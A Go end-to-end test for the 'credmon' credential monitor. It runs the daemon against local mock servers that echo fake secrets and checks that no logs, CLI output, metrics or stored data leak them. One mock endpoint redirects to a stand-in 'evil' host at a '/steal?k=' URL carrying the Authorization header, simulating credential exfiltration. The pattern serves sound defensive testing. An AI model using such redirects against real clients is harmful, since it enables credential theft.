@@ -1,0 +1,493 @@
+package main
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"slices"
+	"sort"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/redis/go-redis/v9"
+
+	"github.com/credmon/credmon/checks"
+	"github.com/credmon/credmon/cmd/credmon/daemon"
+)
+
+// The end-to-end leak test: every kind of secret credmon holds, fed to
+// servers that echo what they receive (in challenges, JSON bodies, headers,
+// cut at odd lengths), token endpoints that quote the grant, and redirectors
+// to a second host that records everything. No output may hold a run of 12
+// characters of any secret, in any of its encoded forms; the second host
+// must receive no secret at all.
+
+const leakUser = "leak-user"
+
+// hostileSecrets are the fake secrets, by what they are.
+var hostileSecrets = map[string]string{
+	"api key":        "sk_live_FAKEhostileKEY000000000000000000aa11",
+	"previous key":   "sk_live_FAKEhostilePREV00000000000000000ab12",
+	"basic password": "FAKE-Hostile-Summer-2026-pw!",
+	"url password":   "FAKE-hostile-url-pw-7788",
+	"query key":      "qk_FAKEhostileQUERY0000000000cd34",
+	"header key":     "hk_FAKEhostileHEADER000000000ef56",
+	"body secret":    "bs_FAKEhostileBODY00000000000gh78",
+	"client secret":  "cs_FAKEhostileCLIENT000000000ij90",
+	"refresh token":  "rt_FAKEhostileREFRESH00000000kl12",
+	"access token":   "at_FAKEhostileACCESS000000000mn34",
+	"bot token":      "xoxb-FAKEhostileSLACKBOT000000op56",
+	"webhook secret": "FAKEhostileWEBHOOK000000000qr78",
+	"encryption key": "", // set in the test: base64 of 32 bytes
+}
+
+// recorder is a server that keeps everything it receives.
+type recorder struct {
+	*httptest.Server
+	trusted bool // the credential's own destination: its Authorization header is expected
+	mu      sync.Mutex
+	got     []string
+}
+
+func (r *recorder) record(req *http.Request) {
+	body, _ := io.ReadAll(req.Body)
+	req.Body = io.NopCloser(strings.NewReader(string(body)))
+	var b strings.Builder
+	h, target := req.Header.Clone(), req.URL.String()
+	if r.trusted {
+		// The one place the secret belongs: the credential's header, or a
+		// webhook's own URL. Everything else it receives counts.
+		h.Del("Authorization")
+		if strings.HasPrefix(req.URL.Path, "/services/") {
+			target = "/services/(the webhook URL)"
+		}
+	}
+	fmt.Fprintf(&b, "%s %s\n", req.Method, target)
+	_ = h.Write(&b)
+	b.Write(body)
+	r.mu.Lock()
+	r.got = append(r.got, b.String())
+	r.mu.Unlock()
+}
+
+func (r *recorder) all() string {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	return strings.Join(r.got, "\n")
+}
+
+func newRecorder(t *testing.T, trusted bool, h func(w http.ResponseWriter, r *http.Request)) *recorder {
+	rec := &recorder{trusted: trusted}
+	rec.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		rec.record(r)
+		if h != nil {
+			h(w, r)
+		}
+	}))
+	t.Cleanup(rec.Close)
+	return rec
+}
+
+// echoed is everything a request carried that a careless server could
+// quote: the Authorization header, decoded Basic credentials, the query,
+// an API key header and the body.
+func echoed(r *http.Request) string {
+	parts := []string{r.Header.Get("Authorization"), r.URL.RawQuery, r.Header.Get("X-API-Key")}
+	if u, p, ok := r.BasicAuth(); ok {
+		parts = append(parts, u+":"+p)
+	}
+	if r.Body != nil {
+		b, _ := io.ReadAll(r.Body)
+		parts = append(parts, string(b))
+	}
+	return strings.Join(parts, " ")
+}
+
+// hostileAPIs starts the echoing API (with its token endpoints) and the
+// second host it redirects to.
+func hostileAPIs(t *testing.T) (api, evil *recorder) {
+	evil = newRecorder(t, false, func(w http.ResponseWriter, r *http.Request) {
+		// Accept anything and answer with a token of its own.
+		w.Header().Set("Content-Type", "application/json")
+		fmt.Fprint(w, `{"access_token":"evil_FAKE_token_000000000000","token_type":"Bearer","expires_in":3600}`)
+	})
+	// The second host is "localhost", the API "127.0.0.1": another Host.
+	evilURL := strings.Replace(evil.URL, "127.0.0.1", "localhost", 1)
+	api = newRecorder(t, true, func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/oauth/token":
+			w.Header().Set("Content-Type", "application/json")
+			fmt.Fprintf(w, `{"access_token":%q,"token_type":"Bearer","expires_in":3600}`, hostileSecrets["access token"])
+		case "/oauth/token-echo":
+			// Quotes the grant, the secrets placed across the 160-character
+			// cut of error_description.
+			_ = r.ParseForm()
+			_, cs, _ := r.BasicAuth()
+			if cs == "" {
+				cs = r.PostForm.Get("client_secret")
+			}
+			desc := strings.Repeat("x", 150) + " refresh token " + r.PostForm.Get("refresh_token") + " for client secret " + cs + " is expired"
+			w.Header().Set("Content-Type", "application/json")
+			w.WriteHeader(http.StatusBadRequest)
+			_ = json.NewEncoder(w).Encode(map[string]string{"error": "invalid_grant " + cs[:min(13, len(cs))], "error_description": desc})
+		case "/oauth/token-redirect":
+			http.Redirect(w, r, evilURL+"/token?from=credmon", http.StatusTemporaryRedirect)
+		case "/echo-challenge":
+			// Quoted in the challenge, cut at the 160-character limit.
+			e := echoed(r)
+			w.Header().Set("WWW-Authenticate", fmt.Sprintf(`Bearer realm=%q, error="invalid_token", error_description=%q`, e[:min(len(e), 19)], strings.Repeat("y", 147)+e))
+			w.Header().Set("X-Echo", e)
+			w.WriteHeader(http.StatusUnauthorized)
+			fmt.Fprintf(w, `{"error":"invalid_token","you_sent":%q}`, e)
+		case "/echo-json":
+			// 200 with {"ok": false}; the echo sits across the 80-character
+			// cut of the body's error text.
+			w.Header().Set("Content-Type", "application/json")
+			fmt.Fprintf(w, `{"ok":false,"error":%q}`, strings.Repeat("z", 71)+echoed(r))
+		case "/redirect":
+			http.Redirect(w, r, evilURL+"/steal?k="+url.QueryEscape(r.Header.Get("Authorization")), http.StatusFound)
+		default:
+			http.NotFound(w, r)
+		}
+	})
+	return api, evil
+}
+
+// leakIn reports which secret has a run of 12 characters, in any of its
+// forms, in text; "" when none. Written independently of checks/redact.
+func leakIn(text string, secrets map[string]string) string {
+	for _, seg := range strings.Split(text, "<redacted>") {
+		for what, v := range secrets {
+			if v == "" {
+				continue
+			}
+			forms := []string{v, url.QueryEscape(v), url.PathEscape(v)}
+			for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.RawStdEncoding, base64.URLEncoding, base64.RawURLEncoding} {
+				forms = append(forms, enc.EncodeToString([]byte(v)))
+			}
+			if what == "basic password" || what == "url password" {
+				forms = append(forms, leakUser+":"+v, base64.StdEncoding.EncodeToString([]byte(leakUser+":"+v)))
+			}
+			for _, f := range forms {
+				if len(f) < 12 {
+					if strings.Contains(seg, f) {
+						return what
+					}
+					continue
+				}
+				for i := 0; i+12 <= len(f); i++ {
+					if strings.Contains(seg, f[i:i+12]) {
+						return fmt.Sprintf("%s (%q)", what, f[i:i+12])
+					}
+				}
+			}
+		}
+	}
+	return ""
+}
+
+// hostileConfig writes the configuration into dir and returns its path.
+func hostileConfig(t *testing.T, dir, store, prefix string) string {
+	api, evil := hostileAPIs(t)
+	t.Cleanup(func() {
+		if l := leakIn(evil.all(), hostileSecrets); l != "" {
+			t.Errorf("the second host received the %s:\n%s", l, evil.all())
+		}
+	})
+	slack := newRecorder(t, true, func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		if strings.HasPrefix(r.URL.Path, "/services/") {
+			fmt.Fprint(w, "ok")
+			return
+		}
+		if r.Header.Get("Authorization") != "Bearer "+hostileSecrets["bot token"] {
+			fmt.Fprint(w, `{"ok":false,"error":"invalid_auth"}`)
+			return
+		}
+		fmt.Fprint(w, `{"ok":true,"channel":"C0FAKE","ts":"1700000000.000100"}`)
+	})
+	t.Cleanup(func() {
+		if l := leakIn(slack.all(), hostileSecrets); l != "" {
+			t.Errorf("a Slack payload holds the %s:\n%s", l, slack.all())
+		}
+		if !strings.Contains(slack.all(), "key-echo-challenge") {
+			t.Errorf("Slack never heard of the failing checks: the test proves nothing\n%s", slack.all())
+		}
+	})
+	bodyFile := filepath.Join(dir, "body.json")
+	if err := os.WriteFile(bodyFile, []byte(`{"secret":"`+hostileSecrets["body secret"]+`"}`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	key := base64.StdEncoding.EncodeToString([]byte("FAKE-32-byte-key-for-leak-test!!"))
+	hostileSecrets["encryption key"] = key
+	for name, v := range map[string]string{
+		"LEAK_API_KEY": hostileSecrets["api key"], "LEAK_PREV_KEY": hostileSecrets["previous key"],
+		"LEAK_BASIC_PW": hostileSecrets["basic password"], "LEAK_URL_PW": hostileSecrets["url password"],
+		"LEAK_QUERY_KEY": hostileSecrets["query key"], "LEAK_HEADER_KEY": hostileSecrets["header key"],
+		"LEAK_CLIENT_SECRET": hostileSecrets["client secret"], "LEAK_REFRESH_TOKEN": hostileSecrets["refresh token"],
+		"LEAK_BOT_TOKEN": hostileSecrets["bot token"], "LEAK_ENC_KEY": key,
+		"LEAK_WEBHOOK": slack.URL + "/services/TFAKE/BFAKE/" + hostileSecrets["webhook secret"],
+	} {
+		t.Setenv(name, v)
+	}
+	storeCfg := fmt.Sprintf("{driver: bolt, path: %q, encryption_key: {env: LEAK_ENC_KEY}}", filepath.Join(dir, "credmon.db"))
+	if store == "redis" {
+		storeCfg = fmt.Sprintf("{driver: redis, redis: {url: %q, key_prefix: %q}, encryption_key: {env: LEAK_ENC_KEY}}", redisURL(), prefix)
+	}
+	u := api.URL
+	path := filepath.Join(dir, "config.yaml")
+	cfg := fmt.Sprintf(`
+store: %[1]s
+scheduler: {schedule: "@every 1s"}
+alerting: {failure_threshold: 1}
+notify:
+  console: true
+  slack: {bot_token: {env: LEAK_BOT_TOKEN}, channel: "#credentials", api_url: %[2]q}
+environments:
+  prod:
+    credentials:
+      key: {type: api_key, secret: {env: LEAK_API_KEY}, previous: {env: LEAK_PREV_KEY}, rotation: {rotated_at: auto, max_age: 90d, grace: 1s}}
+      basic: {type: basic, username: %[6]s, secret: {env: LEAK_BASIC_PW}}
+      client: {type: oauth2_client_credentials, token_url: %[3]q, client_id: leak-client, client_secret: {env: LEAK_CLIENT_SECRET}}
+      client-redirected: {type: oauth2_client_credentials, token_url: %[4]q, client_id: leak-client, client_secret: {env: LEAK_CLIENT_SECRET}}
+      refresher: {type: oauth2_refresh_token, token_url: %[5]q, client_id: leak-client, client_secret: {env: LEAK_CLIENT_SECRET}, refresh_token: {env: LEAK_REFRESH_TOKEN}}
+    checks:
+      - {name: key-echo-challenge, credential: key, url: "%[7]s/echo-challenge"}
+      - {name: key-echo-json, credential: key, url: "%[7]s/echo-json", expect: {json: {ok: true}}}
+      - {name: key-redirect, credential: key, url: "%[7]s/redirect", follow_redirects: true}
+      - {name: basic-echo-challenge, credential: basic, url: "%[7]s/echo-challenge"}
+      - {name: basic-echo-json, credential: basic, url: "%[7]s/echo-json", expect: {json: {ok: true}}}
+      - {name: client-echo, credential: client, url: "%[7]s/echo-challenge"}
+      - {name: client-redirected, credential: client-redirected, url: "%[7]s/echo-challenge"}
+      - {name: refresher-echo, credential: refresher, url: "%[7]s/echo-challenge"}
+      - name: request-secrets
+        method: POST
+        url: "http://%[6]s:${LEAK_URL_PW}@%[8]s/echo-challenge?page=1"
+        query: {api_key: {env: LEAK_QUERY_KEY}}
+        headers: {X-API-Key: {env: LEAK_HEADER_KEY}}
+        body: {file: %[9]q}
+  staging:
+    slack: {webhook_url: {env: LEAK_WEBHOOK}}
+    credentials:
+      key: {type: api_key, secret: {env: LEAK_API_KEY}}
+    checks:
+      - {name: key-echo-challenge, credential: key, url: "%[7]s/echo-challenge"}
+`, storeCfg, slack.URL+"/api/", u+"/oauth/token", u+"/oauth/token-redirect", u+"/oauth/token-echo", leakUser, u, strings.TrimPrefix(u, "http://"), bodyFile)
+	if err := os.WriteFile(path, []byte(cfg), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func redisURL() string {
+	if u := os.Getenv("REDIS_URL"); u != "" {
+		return u
+	}
+	return "redis://127.0.0.1:6379"
+}
+
+func mustRedisOptions(t *testing.T) *redis.Options {
+	o, err := redis.ParseURL(redisURL())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return o
+}
+
+// dumpRedis returns every key under prefix with its value, whatever its
+// type, and deletes them.
+func dumpRedis(t *testing.T, prefix string) string {
+	ctx := context.Background()
+	rc := redis.NewClient(mustRedisOptions(t))
+	defer rc.Close()
+	keys, err := rc.Keys(ctx, prefix+"*").Result()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b strings.Builder
+	for _, k := range keys {
+		fmt.Fprintf(&b, "%s: ", k)
+		switch typ := rc.Type(ctx, k).Val(); typ {
+		case "string":
+			b.WriteString(rc.Get(ctx, k).Val())
+		case "hash":
+			fmt.Fprint(&b, rc.HGetAll(ctx, k).Val())
+		case "list":
+			fmt.Fprint(&b, rc.LRange(ctx, k, 0, -1).Val())
+		case "set":
+			fmt.Fprint(&b, rc.SMembers(ctx, k).Val())
+		case "zset":
+			fmt.Fprint(&b, rc.ZRangeWithScores(ctx, k, 0, -1).Val())
+		case "stream":
+			fmt.Fprint(&b, rc.XRange(ctx, k, "-", "+").Val())
+		default:
+			fmt.Fprintf(&b, "(type %s)", typ)
+		}
+		b.WriteByte('\n')
+	}
+	if len(keys) > 0 {
+		rc.Del(ctx, keys...)
+	}
+	return b.String()
+}
+
+type syncBuffer struct {
+	mu sync.Mutex
+	b  strings.Builder
+}
+
+func (s *syncBuffer) Write(p []byte) (int, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.Write(p)
+}
+
+func (s *syncBuffer) String() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.String()
+}
+
+func getURL(t *testing.T, u string) (int, string) {
+	t.Helper()
+	resp, err := http.Get(u)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body)
+	return resp.StatusCode, string(b)
+}
+
+func TestNoSecretInAnyOutputAgainstHostileServers(t *testing.T) {
+	for _, store := range []string{"bolt", "redis"} {
+		t.Run(store, func(t *testing.T) { hostileRun(t, store) })
+	}
+}
+
+func hostileRun(t *testing.T, store string) {
+	if store == "redis" {
+		rc := redis.NewClient(mustRedisOptions(t))
+		if err := rc.Ping(context.Background()).Err(); err != nil {
+			if os.Getenv("CI") == "true" {
+				t.Fatalf("redis at %s: %v", redisURL(), err)
+			}
+			t.Skipf("redis at %s not reachable: %v", redisURL(), err)
+		}
+		_ = rc.Close()
+	}
+	dir := t.TempDir()
+	prefix := fmt.Sprintf("credmon-leaktest-%d:", time.Now().UnixNano())
+	cfgPath := hostileConfig(t, dir, store, prefix)
+	var logs syncBuffer
+	ready := make(chan string, 1)
+	results := make(chan string, 256)
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() {
+		done <- daemon.Run(ctx, daemon.Options{ConfigPath: cfgPath, Listen: "127.0.0.1:0", WatchInterval: -1,
+			Logger: slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
+			Ready:  func(addr string) { ready <- addr },
+			OnResult: func(r checks.Result) {
+				select {
+				case results <- r.Key():
+				default:
+				}
+			}})
+	}()
+	var addr string
+	select {
+	case addr = <-ready:
+	case err := <-done:
+		t.Fatalf("daemon: %v", err)
+	}
+	// Every check has run at least twice: incidents opened and announced.
+	seen := map[string]int{}
+	for len(seen) < len(hostileChecks) || minCount(seen) < 2 {
+		if k := <-results; slices.Contains(hostileChecks, k) {
+			seen[k]++
+		}
+	}
+	outputs := map[string]string{}
+	for _, path := range []string{"/metrics", "/api/v1/status", "/", "/readyz"} {
+		_, body := getURL(t, "http://"+addr+path)
+		outputs["GET "+path] = body
+	}
+	for _, args := range [][]string{
+		{"check", "-config", cfgPath},
+		{"check", "-config", cfgPath, "-format", "json"},
+		{"status", "-config", cfgPath},
+		{"status", "-config", cfgPath, "-format", "json"},
+	} {
+		r := runCLI(t, "", args...)
+		outputs[strings.Join(args[:1], " ")+" "+strings.Join(args[3:], " ")] = r.stdout + r.stderr
+	}
+	for _, c := range hostileChecks {
+		r := runCLI(t, "", "explain", "-config", cfgPath, c)
+		outputs["explain "+c] = r.stdout + r.stderr
+	}
+	cancel()
+	if err := <-done; err != nil {
+		t.Fatalf("daemon: %v", err)
+	}
+	outputs["logs and console"] = logs.String()
+	if store == "bolt" {
+		db, err := os.ReadFile(filepath.Join(dir, "credmon.db"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		outputs["bolt file"] = string(db)
+	} else {
+		outputs["redis"] = dumpRedis(t, prefix)
+	}
+	names := make([]string, 0, len(outputs))
+	for k := range outputs {
+		names = append(names, k)
+	}
+	sort.Strings(names)
+	for _, where := range names {
+		text := outputs[where]
+		if len(text) < 100 && where != "GET /readyz" {
+			t.Errorf("%s: suspiciously little output (%d bytes): the test would prove nothing\n%s", where, len(text), text)
+		}
+		if l := leakIn(text, hostileSecrets); l != "" {
+			t.Errorf("%s holds the %s:\n%s", where, l, text)
+		}
+	}
+	// The hostile servers did say things: the outputs carry their words,
+	// redacted, so a pass means redaction, not silence.
+	var all strings.Builder
+	for _, text := range outputs {
+		all.WriteString(text)
+	}
+	for _, want := range []string{"invalid_grant", "redirecting to localhost", "<redacted>"} {
+		if !strings.Contains(all.String(), want) {
+			t.Errorf("outputs never mention %q: the hostile servers were not exercised", want)
+		}
+	}
+}
+
+// hostileChecks are the checks of hostileConfig.
+var hostileChecks = []string{"prod/key-echo-challenge", "prod/key-echo-json", "prod/key-redirect", "prod/basic-echo-challenge",
+	"prod/basic-echo-json", "prod/client-echo", "prod/client-redirected", "prod/refresher-echo", "prod/request-secrets",
+	"staging/key-echo-challenge"}
+
+func minCount(m map[string]int) int {
+	n := -1
+	for _, c := range m {
+		if n < 0 || c < n {
+			n = c
+		}
+	}
+	return n
+}
